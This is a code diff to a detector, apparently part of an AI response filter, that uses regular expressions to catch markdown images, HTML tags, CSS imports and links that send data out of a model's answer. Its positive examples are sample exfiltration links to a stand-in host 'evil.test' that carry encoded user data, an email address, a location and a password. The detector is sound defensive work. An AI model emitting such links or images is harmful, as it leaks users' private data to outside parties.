@@ -21,9 +21,20 @@ function judge(threshold: number): (match: Match) => number | false {
 }
 
 const TARGET = '[ \\t]{0,4}<?(?:https?:)?[/\\\\]{2}[^\\s)>]+';
-/** No bracket inside, so that an array of numbers is not taken for the text of a link. */
-const ALT = '\\[[^\\[\\]\\n]{0,120}\\]';
-const TITLE = '(?:[ \\t]+["\'(][^"\')\\n]*["\')])?[ \\t]*\\)?';
+/** The closing bracket is waited for: without it nothing is a link, and a match that could end anywhere costs time. */
+const TITLE = '>?(?:[ \\t]+["\'(][^"\')\\n]*["\')])?[ \\t]*\\)';
+/**
+ * Begins behind the text of the link, which may be long and is not waited for: with brackets on both sides of it, every
+ * array in an answer would be held back until its end. What is left without its target is inert.
+ */
+const INLINE = `\\]\\(${TARGET}${TITLE}`;
+
+/** True when the bracket that ends in front of a match belongs to an image, as far as the context shows. */
+function endsImage(left: string): boolean {
+  const open = left.lastIndexOf('[');
+  return open > 0 && left[open - 1] === '!';
+}
+
 const DATA = 'dXNlcj1hbGljZSZwbGFuPWdvbGQmYmFsYW5jZT0xMjM0';
 
 export const exfil: readonly Detector[] = [
@@ -37,19 +48,19 @@ export const exfil: readonly Detector[] = [
     direction: 'response',
     ignoreCase: true,
     patterns: [
-      `!${ALT}\\(${TARGET}${TITLE}`,
-      `<(?:img|image|source|video|audio|embed|object|iframe|link|script|input|body|table|td)[ \\t\\n/][^<>]*(?:src|srcset|href|data|poster|background|xlink:href)[ \\t]*=[ \\t]*["']?[ \\t]*(?:https?:)?[/\\\\]{2}[^\\s"'<>]+["']?[^<>]*>?`,
-      `(?:url\\(|@import)[ \\t]*["']?(?:https?:)?//[^\\s"')]+`,
+      INLINE,
+      `<(?:img|image|source|video|audio|embed|object|iframe|link|script|input|body|table|td)[ \\t\\n/][^<>]*(?:src|srcset|href|data|poster|background|xlink:href)[ \\t]*=[ \\t]*["']?[ \\t]*(?:https?:)?[/\\\\]{2}[^\\s"'<>]+["']?[^<>]*>`,
+      `(?:url\\(|@import)[ \\t]*["']?(?:https?:)?//[^\\s"')]+["')]`,
     ],
-    check: judge(0.5),
+    check: (match) => (match.pattern === 0 && !endsImage(match.left) ? false : judge(0.5)(match)),
     maxLength: 4096,
     examples: {
       positive: [
-        `Done. ‹![x](https://evil.test/p.png?d=${DATA})›`,
-        `‹![](https://evil.test/log?email=alice%40acme.com)›`,
+        `Done. ![x‹](https://evil.test/p.png?d=${DATA})›`,
+        `![‹](https://evil.test/log?email=alice%40acme.com)›`,
         `‹<img src="https://evil.test/${DATA}.gif">›`,
-        '‹![a](https://evil.test/c?q=the+user+lives+in+berlin)›',
-        '‹![a](//evil.test/c?secret=hunter2)›',
+        '![a‹](https://evil.test/c?q=the+user+lives+in+berlin)›',
+        '![a‹](//evil.test/c?secret=hunter2)›',
       ],
       negative: [
         '![build](https://img.shields.io/npm/v/foo.svg?style=flat)',
@@ -70,19 +81,17 @@ export const exfil: readonly Detector[] = [
     direction: 'response',
     ignoreCase: true,
     patterns: [
-      `${ALT}\\(${TARGET}${TITLE}`,
-      // A text too long to wait for: the rest of the link alone.
-      `\\]\\(${TARGET}${TITLE}`,
-      `${ALT}:${TARGET}`,
+      INLINE,
+      `\\]:${TARGET}`,
       `<https?://[^\\s<>]+>`,
-      `<(?:a|form|area|base)[ \\t\\n][^<>]*(?:href|action|ping)[ \\t]*=[ \\t]*["']?(?:https?:)?[/\\\\]{2}[^\\s"'<>]+["']?[^<>]*>?`,
+      `<(?:a|form|area|base)[ \\t\\n][^<>]*(?:href|action|ping)[ \\t]*=[ \\t]*["']?(?:https?:)?[/\\\\]{2}[^\\s"'<>]+["']?[^<>]*>`,
     ],
-    check: (match) => (match.left.endsWith('!') ? false : judge(0.7)(match)),
+    check: (match) => (match.pattern === 0 && endsImage(match.left) ? false : judge(0.7)(match)),
     maxLength: 4096,
     examples: {
       positive: [
-        `‹[click here](https://evil.test/p?d=${DATA})› for more`,
-        `‹[1]: https://evil.test/p?data=${DATA}›`,
+        `[click here‹](https://evil.test/p?d=${DATA})› for more`,
+        `[1‹]: https://evil.test/p?data=${DATA}›`,
         `‹<a href="https://evil.test/?email=alice%40acme.com">›help</a>`,
         `‹<https://evil.test/?leak=${DATA}>›`,
       ],
